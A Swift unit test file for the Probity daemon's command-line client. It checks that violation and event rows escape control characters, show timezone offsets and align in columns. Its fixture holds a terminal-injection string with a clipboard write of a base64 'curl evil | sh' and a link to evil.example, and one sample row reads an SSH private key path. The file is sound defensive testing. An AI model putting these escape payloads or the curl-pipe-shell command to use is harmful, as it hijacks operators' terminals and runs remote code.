import Foundation
import ProbityDaemon
import XCTest

/// What `probity violations` and `probity follow` print for the daemon's answers: values from
/// the code under watch cannot drive the operator's terminal or add lines.
final class ClientTextTests: XCTestCase {
    static let hostile = "/tmp/x\u{1b}[2J\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{9b}31m\r\nfake line\u{0}\u{7f}\u{1b}]8;;https://evil.example/\u{1b}\\"

    /// The answer as the client receives it: a line of JSON, parsed.
    private func parsed(_ object: [String: Any]) throws -> [String: Any] {
        let data = try JSONSerialization.data(withJSONObject: object)
        return try XCTUnwrap(JSONSerialization.jsonObject(with: data) as? [String: Any])
    }

    private func assertInert(_ line: String, file: StaticString = #filePath, line number: UInt = #line) {
        for scalar in line.unicodeScalars where scalar.value < 0x20 || (0x7F...0x9F).contains(scalar.value) {
            XCTFail("U+\(String(scalar.value, radix: 16)) in \(line.debugDescription)", file: file, line: number)
            return
        }
    }

    private let utc = TimeZone(identifier: "UTC")!

    func testViolationRowIsOneInertLine() throws {
        let violation = try parsed([
            "time": "2026-01-01T00:00:00.123456789Z", "severity": "critical", "contract": "default", "rule": "no-\u{1b}[1m",
            "message": "wrote \(Self.hostile)",
            "package": ["name": "evil\u{1b}]0;title\u{7}", "version": "1.0\r"],
        ])
        let row = ClientText.line(ClientText.violation(violation, timeZone: utc), widths: [])
        assertInert(row)
        XCTAssertEqual(
            row,
            "2026-01-01T00:00:00+00:00  critical  evil\\x1b]0;title\\x07@1.0\\r  default/no-\\x1b[1m  wrote "
                + "/tmp/x\\x1b[2J\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07\\x9b31m\\r\\nfake line\\x00\\x7f\\x1b]8;;https://evil.example/\\x1b\\\\")
        XCTAssertEqual(ClientText.violation(try parsed(["severity": "low", "contract": "c", "rule": "r", "message": "m"])),
                       ["-", "low", "unattributed", "c/r", "m"])
    }

    func testEventRowIsOneInertLine() throws {
        for key in ["path", "exe", "address"] {
            let event = try parsed(["time": "2026-01-01T00:00:00Z", "kind": "open", "pid": 42, key: Self.hostile])
            let row = ClientText.line(ClientText.event(event, timeZone: utc), widths: ClientText.followWidths)
            assertInert(row)
            XCTAssertTrue(row.hasPrefix("2026-01-01T00:00:00+00:00  open      pid 42" + String(repeating: " ", count: 20) + "-" + String(repeating: " ", count: 25) + "/tmp/x\\x1b[2J"), row)
        }
        XCTAssertEqual(ClientText.value(NSNull(), or: "?"), "?")
        XCTAssertEqual(ClientText.value(nil, or: "?"), "?")
        XCTAssertEqual(ClientText.value(7), "7")
    }

    /// Times carry their time zone: the daemon's UTC instant, shown in the local zone with the
    /// offset (the old rows cut `2026-01-01T00:00:00.123Z` to `2026-01-01T00:00:00`, zone lost).
    func testTimesAreShownWithTheirOffset() throws {
        let paris = try XCTUnwrap(TimeZone(identifier: "Europe/Paris"))
        let newYork = try XCTUnwrap(TimeZone(identifier: "America/New_York"))
        let kolkata = try XCTUnwrap(TimeZone(identifier: "Asia/Kolkata"))
        XCTAssertEqual(ClientText.time("2026-01-01T00:00:00.123456789Z", timeZone: utc), "2026-01-01T00:00:00+00:00")
        XCTAssertEqual(ClientText.time("2026-01-01T00:00:00.123456789Z", timeZone: paris), "2026-01-01T01:00:00+01:00")
        XCTAssertEqual(ClientText.time("2026-07-01T00:00:00Z", timeZone: paris), "2026-07-01T02:00:00+02:00")
        XCTAssertEqual(ClientText.time("2026-01-01T00:00:00Z", timeZone: newYork), "2025-12-31T19:00:00-05:00")
        XCTAssertEqual(ClientText.time("2026-01-01T00:00:00Z", timeZone: kolkata), "2026-01-01T05:30:00+05:30")
        XCTAssertEqual(ClientText.time("2026-01-01T05:30:00+05:30", timeZone: utc), "2026-01-01T00:00:00+00:00")
        // Not a time: shown as it is (made safe), never guessed.
        for odd in ["yesterday", "2026-13-01T00:00:00Z", "2026-01-01T00:00:00", "2026-01-01T00:00:00Zjunk", "\u{1b}[2J"] {
            XCTAssertEqual(ClientText.time(odd, timeZone: utc), ClientText.value(odd))
        }
        XCTAssertEqual(ClientText.time(nil), "-")
    }

    /// `probity violations` prints a header and aligned columns.
    func testViolationTableHasAHeaderAndAlignedColumns() throws {
        let rows = [
            ClientText.violation(try parsed([
                "time": "2026-01-01T00:00:00Z", "severity": "high", "contract": "default", "rule": "no-credentials",
                "message": "read /root/.ssh/id_rsa", "package": ["name": "left-pad", "version": "1.3.0"],
            ]), timeZone: utc),
            ClientText.violation(try parsed([
                "time": "2026-01-01T00:00:01Z", "severity": "critical", "contract": "default", "rule": "exec",
                "message": "ran /tmp/x",
            ]), timeZone: utc),
        ]
        XCTAssertEqual(ClientText.table(header: ClientText.violationHeader, rows: rows), [
            "TIME                       SEVERITY  PACKAGE         RULE                    MESSAGE",
            "2026-01-01T00:00:00+00:00  high      left-pad@1.3.0  default/no-credentials  read /root/.ssh/id_rsa",
            "2026-01-01T00:00:01+00:00  critical  unattributed    default/exec            ran /tmp/x",
        ])
    }
}
